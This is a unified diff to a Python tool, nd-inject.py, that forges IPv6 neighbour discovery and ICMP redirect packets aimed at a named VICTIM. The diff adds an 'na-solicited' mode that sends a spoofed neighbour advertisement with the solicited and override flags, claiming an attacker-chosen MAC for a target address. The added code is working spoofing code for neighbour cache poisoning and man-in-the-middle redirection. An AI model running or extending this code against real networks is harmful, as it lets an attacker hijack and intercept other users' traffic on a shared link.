@@ -11,6 +11,8 @@ internet's namespace.
                           better reached through TARGET
   na DEV TARGET MAC       an unsolicited neighbour advertisement (override, not solicited) from
                           DEV's link-local address to ff02::1: TARGET is at MAC
+  na-solicited DEV TARGET MAC VICTIM
+                          the same with the solicited flag, to VICTIM's address (nobody asked)
   redirect4 SRC VICTIM GW DEST PORT
                           an ICMP host redirect from SRC to VICTIM quoting a UDP datagram
                           VICTIM:40002 -> DEST:PORT: DEST is better reached through GW"""
@@ -58,6 +60,11 @@ elif mode == "na":
     na = struct.pack("!BBHI16s", 136, 0, 0, 0x20000000, socket.inet_pton(socket.AF_INET6, target))
     tlla = struct.pack("!BB6s", 2, 1, bytes.fromhex(mac.replace(":", "")))
     send6(dev, na + tlla, "ff02::1")
+elif mode == "na-solicited":
+    dev, target, mac, victim = sys.argv[2:6]
+    na = struct.pack("!BBHI16s", 136, 0, 0, 0x60000000, socket.inet_pton(socket.AF_INET6, target))
+    tlla = struct.pack("!BB6s", 2, 1, bytes.fromhex(mac.replace(":", "")))
+    send6(dev, na + tlla, victim)
 elif mode == "redirect6":
     dev, victim, target, dest = sys.argv[2:6]
     rd = struct.pack("!BBHI16s16s", 137, 0, 0, 0, socket.inet_pton(socket.AF_INET6, target),
@@ -75,4 +82,4 @@ elif mode == "redirect4":
     s.bind((src, 0))
     s.sendto(icmp, (victim, 0))
 else:
-    sys.exit("usage: nd-inject.py ra|na|redirect6|redirect4 ...")
+    sys.exit("usage: nd-inject.py ra|na|na-solicited|redirect6|redirect4 ...")
